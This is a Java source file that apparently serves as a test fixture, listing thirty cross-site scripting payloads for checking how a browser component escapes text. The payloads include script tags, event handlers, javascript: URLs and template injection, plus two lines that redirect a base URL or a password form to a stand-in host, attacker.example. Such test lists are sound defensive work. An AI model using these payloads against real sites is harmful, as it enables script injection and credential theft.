package org.nettunnel.browser;

import java.util.List;

/// Thirty texts that become scripts where somebody makes markup, an attribute, a style or an address of them.
final class Hostile {
    static final List<String> TEXTS = List.of(
            "<script>window.pwned=1</script>",
            "<img src=x onerror=window.pwned=1>",
            "<svg onload=window.pwned=1>",
            "<svg><script>window.pwned=1</script></svg>",
            "\"><script>window.pwned=1</script>",
            "'><img src=x onerror=window.pwned=1>",
            "\" onmouseover=\"window.pwned=1\" x=\"",
            "' onfocus='window.pwned=1' autofocus='",
            "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
            "javascript:window.pwned=1",
            "<a href=\"javascript:window.pwned=1\">x</a>",
            "<body onload=window.pwned=1>",
            "<details open ontoggle=window.pwned=1>",
            "<input autofocus onfocus=window.pwned=1>",
            "<video><source onerror=window.pwned=1></video>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
            "<style>@import 'data:text/css,*{background:red}'</style>",
            "<link rel=stylesheet href=data:text/css,*{display:none}>",
            "<meta http-equiv=refresh content=\"0;url=javascript:window.pwned=1\">",
            "<base href=//attacker.example/>",
            "<form action=//attacker.example/><input name=password>",
            "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
            "<embed src=\"javascript:window.pwned=1\">",
            "</title><script>window.pwned=1</script>",
            "</textarea><script>window.pwned=1</script>",
            "-->\"'/><sVg/oNloAd=window.pwned=1//>",
            "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
            "\\u003cimg src=x onerror=window.pwned=1\\u003e&lt;script&gt;window.pwned=1&lt;/script&gt;",
            "\u202e<img/src=`x`onerror=window.pwned=1>");

    private Hostile() {
    }
}
